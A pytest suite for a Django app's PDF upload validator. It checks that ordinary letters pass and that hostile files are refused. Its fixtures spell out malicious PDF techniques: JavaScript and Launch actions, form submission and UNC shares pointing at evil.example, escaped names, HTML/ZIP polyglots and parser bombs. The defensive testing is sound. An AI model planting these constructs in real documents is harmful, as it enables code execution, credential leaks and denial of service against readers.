"""PDF: what people make passes as it came; what runs, reaches out or is two files is refused."""

import io
import re
import time
import zipfile
from collections.abc import Callable
from typing import Any

import pikepdf
import pytest
from django.core.files.base import ContentFile
from pikepdf import Array, Dictionary, Name, ObjectStreamMode, String

from tests import pdfs
from visits.confined import running
from visits.confined.pdfs import read
from visits.confined.verdicts import Refused, Verdict
from visits.files.letters import (
    LetterActive,
    LetterLocked,
    LetterTooLarge,
    LetterUnreadable,
    check_letter,
)
from visits.files.materials import MaterialActive, MaterialLocked, check_material

PACKED = {"object_stream_mode": ObjectStreamMode.generate}
PLAIN = {"object_stream_mode": ObjectStreamMode.disable}
OWNER_ONLY = pikepdf.Encryption(owner="rahasia", user="", R=6)


def taken(content: bytes) -> bool:
    """Whether it passes (in this process, which is quicker)."""
    return read(content) == ("pdf", b"")


def tidied(content: bytes) -> pikepdf.Pdf:
    """What is kept in its place, which nothing is wrong with."""
    kind, kept = read(content)
    assert kind == "pdf"
    assert read(kept) == ("pdf", b"")
    return pikepdf.open(io.BytesIO(kept))


def refused(content: bytes) -> None:
    with pytest.raises(Refused) as why:
        read(content)
    assert why.value.verdict in (Verdict.ACTIVE, Verdict.TWO_IN_ONE)


def test_letters_and_material_are_judged_by_the_same_and_kept_as_they_came() -> None:
    good, bad = pdfs.page(pdfs.signature_field), pdfs.page(HARM["form sent out"])
    assert check_letter(ContentFile(good, name="a.pdf")).read() == good
    assert check_material(ContentFile(good, name="a.pdf")).read() == good
    with pytest.raises(LetterActive):
        check_letter(ContentFile(bad, name="a.pdf"))
    with pytest.raises(MaterialActive):
        check_material(ContentFile(bad, name="a.pdf"))


@pytest.mark.parametrize("options", [PLAIN, PACKED, {"linearize": True}, {"min_version": "2.0"}])
def test_pages_pass_however_they_are_packed(options: dict[str, Any]) -> None:
    assert taken(pdfs.page(**options))


@pytest.mark.parametrize(
    "change",
    [
        pdfs.link(S=Name.URI, URI=String("https://solokkab.go.id/")),
        pdfs.link(S=Name.URI, URI=String("mailto:dprd@solokkab.go.id")),
        pdfs.link(S=Name.URI, URI=String("www.solokkab.go.id")),
        pdfs.link(S=Name.GoTo, D=[0, Name.Fit]),
        pdfs.on_open(S=Name.GoTo, D=[0, Name.Fit]),
        pdfs.root(OpenAction=Array([0, Name.FitH, 800]), Names=Dictionary(Dests=Dictionary())),
        pdfs.signature_field,
        pdfs.annotation("/Widget", FT=Name.Tx, T=String("Nama"), F=4),
        # What a producer keeps for itself, and text that only speaks of programs.
        pdfs.root(PieceInfo=Dictionary(X=Dictionary(Private=Dictionary(F=String("a.ai"))))),
        pdfs.root(Metadata2=String("about JavaScript and Launch")),
    ],
)
def test_what_letters_have_passes(change: pdfs.Change) -> None:
    assert taken(pdfs.page(change, **PLAIN))
    assert taken(pdfs.page(change, **PACKED))


def test_a_signed_letter_keeps_its_updates() -> None:
    once = pdfs.page(pdfs.signature_field, **PLAIN)
    twice = pdfs.updated(once, 1, once_object(once, 1))
    assert taken(twice)
    assert taken(pdfs.updated(twice, 1, once_object(once, 1)))


def once_object(content: bytes, number: int) -> bytes:
    with pikepdf.open(io.BytesIO(content)) as document:
        return document.get_object(number, 0).unparse(resolved=True)


def test_a_letter_protected_against_changes_alone_passes() -> None:
    assert taken(pdfs.page(encryption=OWNER_ONLY))


def test_a_letter_with_a_password_is_refused_with_what_to_do() -> None:
    locked = pdfs.page(encryption=pikepdf.Encryption(owner="a", user="b", R=6))
    with pytest.raises(LetterLocked):
        check_letter(ContentFile(locked, name="a.pdf"))
    with pytest.raises(MaterialLocked):
        check_material(ContentFile(locked, name="a.pdf"))


SHARE = String("\\\\evil.example\\share\\a.pdf")
HARM: dict[str, pdfs.Change] = {
    "program": pdfs.on_open(S=Name.JavaScript, JS=String("app.alert(1)")),
    "program in a tree": pdfs.root(
        Names=Dictionary(JavaScript=Dictionary(Names=[String("a"), Dictionary(JS=String("1"))]))
    ),
    "program of a field": pdfs.annotation(
        "/Widget", AA=Dictionary(F=Dictionary(S=Name.JavaScript, JS=String("1")))
    ),
    "start": pdfs.link(S=Name.Launch, F=String("cmd.exe")),
    "form sent out": pdfs.link(S=Name.SubmitForm, F=String("https://evil.example/")),
    "form read in": pdfs.link(S=Name.ImportData, F=String("a.fdf")),
    "share": pdfs.link(S=Name.GoToR, F=SHARE, D=[0, Name.Fit]),
    "share in a specification": pdfs.link(
        S=Name.GoTo, D=[0, Name.Fit], Next=Dictionary(S=Name.GoToE, F=Dictionary(UF=SHARE))
    ),
    "share as a link": pdfs.link(S=Name.URI, URI=SHARE),
    "share as a path": pdfs.link(S=Name.URI, URI=String("//evil.example/share")),
    "file as a link": pdfs.link(S=Name.URI, URI=String("file:///C:/a.exe")),
    "script as a link": pdfs.link(S=Name.URI, URI=String(" JavaScript:alert(1)")),
    "script in two": pdfs.link(S=Name.URI, URI=String("java\tscript:alert(1)")),
    "share in two": pdfs.link(S=Name.URI, URI=String("/\n/evil.example/share")),
    "page opened unasked": pdfs.on_open(S=Name.URI, URI=String("https://evil.example/")),
    "page opened behind": pdfs.on_open(
        S=Name.GoTo, D=[0, Name.Fit], Next=[Dictionary(S=Name.URI, URI=String("https://a.b"))]
    ),
    "page opened on turning": pdfs.root(
        AA=Dictionary(WC=Dictionary(S=Name.URI, URI=String("https://evil.example/")))
    ),
    "printed unasked": pdfs.on_open(S=Name.Named, N=Name.Print),
    "file within": pdfs.attached,
    "film": pdfs.annotation("/Movie"),
    "sound": pdfs.annotation("/Sound"),
    "screen": pdfs.annotation("/Screen"),
    "model": pdfs.annotation("/3D"),
    "player": pdfs.annotation("/RichMedia"),
    "clip": pdfs.annotation("/FileAttachment"),
    "form of its own": pdfs.root(AcroForm=Dictionary(Fields=[], XFA=[String("template")])),
    "base of links": pdfs.root(URI=Dictionary(Base=SHARE)),
}


@pytest.mark.parametrize("name", HARM)
@pytest.mark.parametrize("options", [PLAIN, PACKED, {"encryption": OWNER_ONLY}], ids=repr)
def test_what_runs_or_reaches_out_is_refused(name: str, options: dict[str, Any]) -> None:
    refused(pdfs.page(HARM[name], **options))


def test_content_in_another_file_is_refused() -> None:
    def outside(document: pikepdf.Pdf) -> None:
        document.pages[0].Contents.stream_dict.F = Dictionary(FS=Name.URL, F=String("http://a.b"))

    refused(pdfs.page(outside, **PLAIN))


def test_a_name_with_escapes_is_read_as_what_it_is() -> None:
    plain = pdfs.page(HARM["program"], **PLAIN)
    refused(plain.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53"))


def test_an_update_that_brings_a_program_and_one_that_hides_it_are_refused() -> None:
    clean = pdfs.page(**PLAIN)
    catalogue = once_object(clean, 1)
    program = catalogue[:-2] + b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> >>"
    brought = pdfs.updated(clean, 1, program)
    refused(brought)
    refused(pdfs.updated(brought, 1, catalogue))
    packed = pdfs.page(HARM["page opened unasked"], **PLAIN)
    refused(pdfs.updated(packed, 1, catalogue))


def test_an_object_that_no_table_names_is_seen() -> None:
    clean = pdfs.page(**PLAIN)
    refused(clean.replace(b"\nxref", b"\n99 0 obj\n<< /S /Launch /F (a.exe) >>\nendobj\nxref", 1))


PAGE = b"<html><script>alert(1)</script></html>"


@pytest.mark.parametrize("where", ["head", "between", "comment", "stream", "end"])
def test_a_page_of_the_web_in_it_is_refused(where: str) -> None:
    clean = pdfs.page(**PLAIN, compress_streams=False)
    head, _, rest = clean.partition(b"\n")
    made = {
        "head": head + b"\n" + PAGE + b"\n" + rest,
        "between": re.sub(rb"endobj\n", b"endobj\n" + PAGE + b"\n", clean, count=1),
        "comment": head + b"\n%<!DOCTYPE HTML><SCRIPT>1</SCRIPT>\n" + rest,
        "stream": clean.replace(b"BT /F1", b"<svg onload=alert(1)> BT /F1", 1),
        "end": clean + PAGE,
    }
    refused(made[where])


def test_what_begins_as_something_else_is_no_pdf() -> None:
    for before in (b"MZ\x90\0", PAGE, b"\x89PNG\r\n\x1a\n", b"#!/bin/sh\n", b"\r\nPK\3\4"):
        with pytest.raises(LetterUnreadable):
            check_letter(ContentFile(before + pdfs.page(), name="a.pdf"))


@pytest.mark.parametrize("before", [b"\n", b"\r\n", b"\xef\xbb\xbf", b"\x1b%-12345X@PJL\r\n" * 40])
def test_what_stands_before_the_head_goes(before: bytes) -> None:
    assert len(tidied(before + pdfs.page(**PACKED)).pages) == 1


def test_a_head_further_in_than_readers_look_is_none() -> None:
    for before, passes in ((1019, True), (1020, False)):
        content = b" " * before + pdfs.page(**PLAIN)
        if passes:
            tidied(content)
            continue
        with pytest.raises(LetterUnreadable):
            check_letter(ContentFile(content, name="a.pdf"))


@pytest.mark.parametrize("behind", [b"x", b"\r\n--part--\r\n", b"\0x" * 4000])
def test_what_stands_behind_the_end_goes(behind: bytes) -> None:
    assert len(tidied(pdfs.page(**PACKED) + behind).pages) == 1


def test_an_archive_in_it_is_refused() -> None:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("a.exe", "MZ")
    head, _, rest = pdfs.page(**PLAIN).partition(b"\n")
    refused(head + b"\n%" + archive.getvalue() + b"\n" + rest)


def test_the_letters_js_in_a_scan_are_no_program() -> None:
    def scan(document: pikepdf.Pdf) -> None:
        document.pages[0].Contents = document.make_stream(b"/JS (x) /XFA /AA " * 100)

    assert taken(pdfs.page(scan, compress_streams=False))


def test_a_broken_table_is_mended_but_a_cut_letter_refused() -> None:
    whole = pdfs.page(**PLAIN)
    for made in (re.sub(rb"startxref\n\d+", b"startxref\n1", whole), whole[:-7], whole[:-40]):
        assert len(tidied(made).pages) == 1
    with pytest.raises(LetterUnreadable):
        check_letter(ContentFile(whole[:140] + b"\n%%EOF\n", name="a.pdf"))


@pytest.mark.parametrize("options", [PLAIN, PACKED, {"linearize": True}], ids=repr)
def test_wherever_a_letter_breaks_off_it_is_refused_or_all_of_it_is_there(
    options: dict[str, Any],
) -> None:
    def longer(document: pikepdf.Pdf) -> None:
        for number in range(4):
            document.add_blank_page()
            text = b"BT (%d) Tj ET " % number
            document.pages[-1].Contents = document.make_stream(text * 20)

    whole = pdfs.page(longer, **options)
    taken_at = []
    for length in range(20, len(whole) - 20, 7):
        try:
            kept = read(whole[:length])[1] or whole[:length]
        except Refused:
            continue
        taken_at.append(length)
        with pikepdf.open(io.BytesIO(kept)) as document:
            assert [len(page.Contents.read_bytes()) for page in document.pages] == [
                len(page.Contents.read_bytes()) for page in pikepdf.open(io.BytesIO(whole)).pages
            ]
    assert all(length > len(whole) // 2 for length in taken_at)


def test_a_letter_for_somebodys_certificate_alone_is_locked() -> None:
    locked = pdfs.page(encryption=pikepdf.Encryption(owner="a", user="b", R=6))
    other = locked.replace(b"/Filter /Standard", b"/Filter /Adobe.PubSec")
    with pytest.raises(LetterLocked):
        check_letter(ContentFile(other, name="a.pdf"))


def nested(depth: int) -> bytes:
    clean = pdfs.page(**PLAIN)
    catalogue = once_object(clean, 1)[:-2]
    return pdfs.updated(clean, 1, catalogue + b"/Deep " + b"[" * depth + b"]" * depth + b" >>")


def circle_of_tables() -> bytes:
    clean = pdfs.page(**PLAIN)
    return re.sub(rb"trailer\s*<<", b"trailer << /Prev %d " % clean.rindex(b"xref\n0"), clean)


def circle_of_actions(document: pikepdf.Pdf) -> None:
    action = document.make_indirect(Dictionary(S=Name.GoTo, D=[0, Name.Fit]))
    action.Next = action
    document.Root.OpenAction = action


def zeros(document: pikepdf.Pdf) -> None:
    document.Root.Zeros = document.make_stream(bytes(150_000_000))


def many_objects(document: pikepdf.Pdf) -> None:
    document.Root.Many = Array([document.make_indirect(Dictionary(A=n)) for n in range(50_000)])


# Small files that take a reader long, or much memory; and whether they may be taken.
BOMBS: dict[str, tuple[Callable[[], bytes], bool]] = {
    "deep": (lambda: nested(400_000), False),
    "deep in an object": (lambda: nested(90), True),
    "circle of tables": (circle_of_tables, True),
    "circle of actions": (lambda: pdfs.page(circle_of_actions, **PLAIN), False),
    "size": (lambda: re.sub(rb"/Size \d+", b"/Size 2000000000", pdfs.page(**PLAIN)), True),
    "zeros": (lambda: pdfs.page(zeros), True),
    "many objects": (lambda: pdfs.page(many_objects, **PACKED), True),
    "many ends": (lambda: pdfs.page(**PLAIN) + b"%%EOF\n" * 5000, False),
    "objects without end": (lambda: b"%PDF-1.7\n" + b"1 0 obj <<\n" * 400_000 + b"%%EOF\n", False),
    "streams without end": (lambda: b"%PDF-1.7\n" + b"stream\n" * 500_000 + b"%%EOF\n", False),
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_is_taken_or_refused_within_the_bounds(name: str) -> None:
    make, may_pass = BOMBS[name]
    content = make()
    began = time.monotonic()
    try:
        check_letter(ContentFile(content, name="a.pdf"))
    except (LetterActive, LetterTooLarge, LetterUnreadable):
        pass
    else:
        assert may_pass
    assert time.monotonic() - began < running.LONGEST
